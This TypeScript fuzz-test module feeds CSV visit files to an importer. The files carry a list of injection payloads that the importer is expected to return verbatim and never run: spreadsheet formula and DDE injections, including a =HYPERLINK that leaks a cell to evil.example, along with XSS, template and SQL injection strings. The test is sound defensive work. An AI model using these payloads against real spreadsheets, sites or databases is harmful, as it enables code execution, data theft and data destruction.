import type { FuzzFamily } from '../fuzzCase';
import { VISIT_HEADERS, csvText, utf8, visitRows } from '../visitsTable';

/** Formula injections and HTML/script payloads, as they should come back: verbatim, never run. */
export const PAYLOADS = [
	'=HYPERLINK("http://evil.example/?x="&A1,"click")',
	'+cmd|\' /C calc\'!A0',
	'-2+3',
	'@SUM(1+9)*cmd|\' /C calc\'!A0',
	'=1+1',
	'\t=1+1',
	'<script>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'javascript:alert(document.cookie)',
	'<svg onload=alert(1)><circle r="9"/></svg>',
	'"><iframe src=javascript:alert(1)>',
	'{{7*7}}',
	"'; DROP TABLE sessions; --"
];

/** How many rows each payload file has, so a test can expect exact counts. */
export const PAYLOAD_ROWS = PAYLOADS.length * 2;

/**
 * A visits file with a payload in text fields: in the notes only (every row imports, the notes are not read), or
 * in every text field (every row is refused, and the report shows each payload as written).
 */
export const payloads: FuzzFamily = {
	name: 'payloads',
	about: 'formulas (=HYPERLINK, +cmd, -2+3, @SUM) and HTML/script (<script>, onerror, javascript:, SVG) in text fields',
	count: { full: 60, subset: 4 },
	make(random, index) {
		const everywhere = index % 2 === 1;
		const rows = visitRows(random, PAYLOAD_ROWS).map((row, r) => {
			const payload = PAYLOADS[(r + index) % PAYLOADS.length];
			return row.map((cell, c) => (c === 6 || (everywhere && c !== 4 && c !== 5) ? payload : cell));
		});
		const shape = { quoteAll: random.chance(0.5) };
		return {
			files: [{ name: everywhere ? 'payloads-everywhere.csv' : 'payloads-in-notes.csv', bytes: utf8(csvText(VISIT_HEADERS, rows, shape)) }],
			note: everywhere ? 'a payload in every text field' : 'a payload in every note'
		};
	}
};
